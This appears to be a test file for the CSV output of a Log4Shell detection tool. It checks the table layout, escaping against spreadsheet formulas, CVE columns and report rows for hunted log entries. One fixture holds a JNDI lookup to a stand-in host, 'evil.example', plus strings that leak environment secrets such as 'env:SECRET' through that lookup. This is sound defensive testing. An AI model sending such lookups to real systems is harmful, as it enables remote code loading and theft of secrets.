import fc from 'fast-check'
import { expect, test } from 'vitest'
import { readCsv as records } from '../../../test/kit/documents/csv.ts'
import {
  anyFinding,
  anyGap,
  documentOf,
  huntHeader,
  sampleAttacks,
  sampleComponents,
  scanHeader,
} from '../../../test/kit/generated-results.ts'
import type { Finding, Gap } from '../../core/index.ts'
import { csv } from './csv.ts'

const results = [fc.array(anyFinding, { maxLength: 5 }), fc.array(anyGap, { maxLength: 5 })] as const

test('is a table: one header, and a row of as many cells for each finding and gap', () => {
  fc.assert(
    fc.property(...results, (findings, gaps) => {
      const [head, ...rows] = records(documentOf(csv, findings, gaps))
      expect(rows).toHaveLength(findings.length + gaps.length)
      for (const row of rows) expect(row).toHaveLength(head?.length ?? 0)
    }),
  )
})

test('no cell is a formula, split at commas or at semicolons', () => {
  fc.assert(
    fc.property(...results, (findings, gaps) => {
      for (const row of records(documentOf(csv, findings, gaps)))
        for (const cell of row) expect(cell).not.toMatch(/(^|;)\s*[=+\-@]/)
    }),
  )
})

test('without anything to tell, the header tells so', () => {
  expect(records(documentOf(csv, [], []))).toHaveLength(1)
})

test('a component is one row, with its advisories in a column for each status', () => {
  const [sample] = sampleComponents(1)
  const finding: Finding = {
    ...sample!,
    at: { path: '/srv/a.jar' },
    cves: [
      { id: 'CVE-2021-44228', status: 'affected', because: '' },
      { id: 'CVE-2021-45046', status: 'affected', because: '' },
      { id: 'CVE-2020-9488', status: 'fixed', because: '' },
    ],
  }
  const [head = [], ...rows] = records(documentOf(csv, [finding], [], { header: scanHeader }))
  const cell = (name: string): string | undefined => rows[0]?.[head.indexOf(name)]

  expect(rows).toHaveLength(1)
  expect(head.slice(0, 3)).toEqual(['kind', 'path', 'result'])
  expect(cell('path')).toBe('/srv/a.jar')
  expect(cell('result')).toBe('vulnerable')
  expect(cell('affected')).toBe('CVE-2021-44228, CVE-2021-45046')
  expect(cell('fixed')).toBe('CVE-2020-9488')
  expect(cell('unknown')).toBe('')
})

test('an attack is one row, with what it asks for in parts', () => {
  const [sample] = sampleAttacks(1)
  const finding: Finding = {
    ...sample!,
    at: { source: '/var/log/a.log', line: 12, byteOffset: 700 },
    from: '203.0.113.7',
    verdict: 'fires',
    firesOn: ['C'],
    needsJdk: null,
    lookup: {
      ...sample!.lookup,
      meaning: 'jndi:ldap://evil.example:1389/a',
      scheme: 'ldap',
      host: 'evil.example',
      port: 1389,
      path: 'a',
    },
    leaks: [
      { read: 'env:SECRET', into: 'ldap://${env:SECRET}.evil.example', secret: true },
      { read: 'env:USER', into: 'ldap://${env:USER}.evil.example', secret: false },
    ],
  }
  const [head = [], row = []] = records(documentOf(csv, [finding], [], { header: huntHeader }))
  const cell = (name: string): string | undefined => row[head.indexOf(name)]

  expect(head.slice(0, 7)).toEqual(['kind', 'log', 'line', 'byte offset', 'when', 'from', 'result'])
  expect([cell('log'), cell('line'), cell('from'), cell('result')]).toEqual([
    '/var/log/a.log',
    '12',
    '203.0.113.7',
    'fires',
  ])
  expect([cell('host'), cell('port'), cell('lookup path')]).toEqual(['evil.example', '1389', 'a'])
  expect(cell('releases')).toBe('Log4j 2.13.0 to 2.14.1')
  expect(cell('rotate')).toBe('env:SECRET')
})

test.each([
  ['probe', 'url'],
  ['scan', 'path'],
  ['hunt', 'log'],
] as const)('a gap of a %s has its place in the column %s', (verb, column) => {
  const gap: Gap = { at: 'somewhere', because: 'timed-out', detail: '' }
  const [head = [], row = []] = records(documentOf(csv, [], [gap], { header: { ...scanHeader, verb } }))

  expect(row[head.indexOf(column)]).toBe('somewhere')
})
